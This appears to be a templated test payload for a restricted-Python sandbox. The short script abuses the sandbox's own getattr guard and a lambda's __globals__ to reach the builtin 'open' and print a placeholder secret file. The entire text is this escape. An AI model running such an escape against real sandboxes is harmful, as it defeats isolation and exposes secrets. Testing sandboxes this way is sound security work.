"""The guards are values: who can name one can ask it for anything."""
read = globals().get("_getattr_", getattr)
found = read(read(lambda: 0, "__globals__")["__builtins__"], "open") if not isinstance((lambda: 0).__globals__["__builtins__"], dict) else (lambda: 0).__globals__["__builtins__"]["open"]
print(found("@SECRET_FILE@").read())
